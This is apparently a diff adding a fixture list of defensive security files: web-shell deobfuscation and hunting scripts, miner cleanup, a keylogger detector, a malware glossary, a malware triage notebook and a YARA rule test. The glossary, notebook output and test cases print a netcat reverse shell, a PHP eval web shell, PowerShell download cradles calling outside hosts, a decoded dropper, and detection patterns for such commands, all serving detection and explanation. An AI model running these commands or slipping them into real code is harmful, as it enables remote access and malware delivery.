@@ -1,0 +1,33 @@
+// Honest work of defenders: what they write holds everything that attackers write.
+import { file, type Lookalike } from './lookalike.ts'
+
+export const defenders: readonly Lookalike[] = [
+  file(
+    'honest-deobfuscate.py',
+    'import re, sys, base64, zlib\n"""Peels layers from PHP web shells: eval(gzinflate(base64_decode(\'...\'))) and str_rot13. Never executes anything."""\nLAYER = re.compile(rb"eval\\s*\\(\\s*gzinflate\\s*\\(\\s*base64_decode\\s*\\(\\s*[\'\\"]([A-Za-z0-9+/=\\s]+)[\'\\"]", re.I)\ndef peel(data):\n    while m := LAYER.search(data):\n        data = zlib.decompress(base64.b64decode(m.group(1)), -15)\n    return data\nif __name__ == "__main__":\n    sys.stdout.buffer.write(peel(open(sys.argv[1], "rb").read()))\n',
+  ),
+  file(
+    'honest-hunt-webshell.sh',
+    "#!/bin/bash\n# Looks for web shells under the docroot and mails a list\nROOT=${1:-/var/www}\nPAT='(eval|assert|system|passthru|shell_exec|popen|proc_open)\\s*\\(\\s*(base64_decode|gzinflate|str_rot13|\\$_(GET|POST|REQUEST|COOKIE))'\ngrep -rPlI --include='*.php' \"$PAT\" \"$ROOT\" > /tmp/hits.$$\ngrep -rlI --include='*.php' -e 'c99shell' -e 'r57shell' -e 'FilesMan' -e 'b374k' -e 'eval(gzinflate(base64_decode(' \"$ROOT\" >> /tmp/hits.$$\nfind \"$ROOT\" -name '*.php' -mtime -2 -newer /etc/hostname >> /tmp/hits.$$\ncrontab -l | grep -E 'curl.*\\| *(ba)?sh|/dev/tcp/|xmrig|kinsing' && echo \"suspicious cron\" >> /tmp/hits.$$\n[ -s /etc/ld.so.preload ] && echo \"ld.so.preload is set: $(cat /etc/ld.so.preload)\" >> /tmp/hits.$$\n[ -s /tmp/hits.$$ ] && mail -s \"possible web shells on $(hostname)\" security@example.org < /tmp/hits.$$\nrm -f /tmp/hits.$$\n",
+  ),
+  file(
+    'honest-ioc-miner-cleanup.sh',
+    "#!/bin/bash\n# Incident 2024-117: removes the kinsing miner from infected Docker hosts\nfor p in kinsing kdevtmpfsi xmrig xmr-stak; do pkill -9 -f \"$p\"; rm -f /tmp/$p /var/tmp/$p /dev/shm/$p; done\ncrontab -l | grep -v -e '195.3.146.118' -e 'unk.sh' | crontab -\nchattr -i /etc/ld.so.preload; sed -i '/libsystem.so/d' /etc/ld.so.preload; rm -f /etc/libsystem.so\nfor u in $(ls /home); do sed -i '/attacker@kali/d' /home/$u/.ssh/authorized_keys; done\niptables -A OUTPUT -d 195.3.146.118 -j DROP\ngrep -q 'stratum+tcp' /etc/systemd/system/*.service && echo \"check services\"\ndocker ps --format '{{.ID}} {{.Image}} {{.Command}}' | grep -E 'curl|wget' \n",
+  ),
+  file(
+    'honest-keylogger_detector.py',
+    '"""Finds keyloggers: processes that hook the keyboard, read /dev/input or hold GetAsyncKeyState in their imports."""\nimport os, sys, glob, psutil, json, smtplib\nfrom email.message import EmailMessage\nSUSPECT_NAMES = {"logkeys", "lkl", "uberkey", "pykeylogger", "ardamax", "refog", "revealer keylogger"}\nSUSPECT_APIS = [b"SetWindowsHookExA", b"SetWindowsHookExW", b"GetAsyncKeyState", b"GetKeyboardState", b"GetRawInputData"]\nSUSPECT_MODULES = ("pynput.keyboard", "keyboard.hook", "pyxhook", "on_press=")\ndef readers_of_input():\n    for p in psutil.process_iter(["pid", "name", "exe", "username"]):\n        try:\n            for fd in glob.glob(f"/proc/{p.pid}/fd/*"):\n                if os.readlink(fd).startswith("/dev/input/event"): yield p\n        except (PermissionError, FileNotFoundError): continue\ndef scan(path):\n    data = open(path, "rb").read()\n    hits = [a.decode() for a in SUSPECT_APIS if a in data]\n    if path.endswith(".py"): hits += [m for m in SUSPECT_MODULES if m in data.decode(errors="ignore")]\n    return hits\ndef report(found):\n    m = EmailMessage(); m["Subject"] = f"{len(found)} possible keyloggers on {os.uname().nodename}"\n    m["From"], m["To"] = "sensor@corp.example", "soc@corp.example"; m.set_content(json.dumps(found, indent=1))\n    with smtplib.SMTP("mail.corp.example", 587) as s: s.starttls(); s.login("sensor", os.environ["SMTP_PW"]); s.send_message(m)\nif __name__ == "__main__":\n    found = [{"pid": p.pid, "name": p.name(), "exe": p.exe(), "hits": scan(p.exe())} for p in readers_of_input()]\n    found += [{"name": p.name()} for p in psutil.process_iter() if p.name().lower() in SUSPECT_NAMES]\n    if found: report(found)\n    sys.exit(bool(found))\n',
+  ),
+  file(
+    'honest-malware-glossary.txt',
+    "Reverse shell: e.g. nc -e /bin/sh attacker 4444\nWeb shell: <?php eval($_POST['x']); ?>\nRansom note: \"Your files are encrypted. Send 0.5 BTC to 1BoatSLRHtKNngkdXEeobR76b53LETtpyT\"\nCradle: powershell IEX (New-Object Net.WebClient).DownloadString('http://x/a')\nEICAR: a test file that begins with X5O!P%@AP\nKeylogger: SetWindowsHookEx(WH_KEYBOARD_LL, ...)\nProcess hollowing: CreateProcess(CREATE_SUSPENDED), NtUnmapViewOfSection, WriteProcessMemory, SetThreadContext, ResumeThread\n",
+  ),
+  file(
+    'honest-triage.ipynb',
+    '{\n "cells": [\n  {\n   "cell_type": "markdown",\n   "metadata": {},\n   "source": [\n    "# Triage of sample 9f2c (AgentTesla)\\n",\n    "Stage 1 is a JS dropper"\n   ]\n  },\n  {\n   "cell_type": "code",\n   "execution_count": 1,\n   "metadata": {},\n   "outputs": [\n    {\n     "name": "stdout",\n     "output_type": "stream",\n     "text": [\n      "var sh = new ActiveXObject(\'WScript.Shell\'); sh.Run(\'powershell -ep bypass -w hidden -c IEX((New-Object Net.WebClient).DownloadString(\\"http://193.0.2.10/x.ps1\\"))\', 0);\\n"\n     ]\n    }\n   ],\n   "source": [\n    "import base64, re, yara, pefile\\n",\n    "raw = open(\'9f2c.js\').read()\\n",\n    "blob = re.search(r\'\\"([A-Za-z0-9+/=]{200,})\\"\', raw).group(1)\\n",\n    "dec = bytes(b ^ 0x35 for b in base64.b64decode(blob))\\n",\n    "print(dec.decode())\\n",\n    "assert dec[:2] != b\'MZ\'"\n   ]\n  },\n  {\n   "cell_type": "code",\n   "execution_count": 2,\n   "metadata": {},\n   "outputs": [],\n   "source": [\n    "pe = pefile.PE(data=stage2)\\n",\n    "for e in pe.DIRECTORY_ENTRY_IMPORT: print(e.dll, [i.name for i in e.imports if i.name in (b\'VirtualAllocEx\', b\'WriteProcessMemory\', b\'CreateRemoteThread\')])"\n   ]\n  }\n ],\n "metadata": {\n  "kernelspec": {\n   "name": "python3",\n   "display_name": "Python 3"\n  }\n },\n "nbformat": 4,\n "nbformat_minor": 5\n}',
+  ),
+  file(
+    'honest-yara_test.go',
+    'package scan\nimport "testing"\nfunc TestRules(t *testing.T) {\n\tcases := []struct{ name, body, want string }{\n\t\t{"php shell", "<?php @eval($_POST[\'pass\']); ?>", "webshell"},\n\t\t{"bash rev", "bash -i >& /dev/tcp/198.51.100.3/4444 0>&1", "reverse_shell"},\n\t\t{"cradle", "powershell -nop -w hidden -c \\"IEX(New-Object Net.WebClient).DownloadString(\'http://198.51.100.3/a\')\\"", "cradle"},\n\t\t{"vba", "Sub AutoOpen()\\nShell(\\"cmd /c calc\\")\\nEnd Sub", "macro"},\n\t}\n\tfor _, c := range cases { if got := Scan([]byte(c.body)); got != c.want { t.Errorf("%s: %s", c.name, got) } }\n}\n',
+  ),
+]
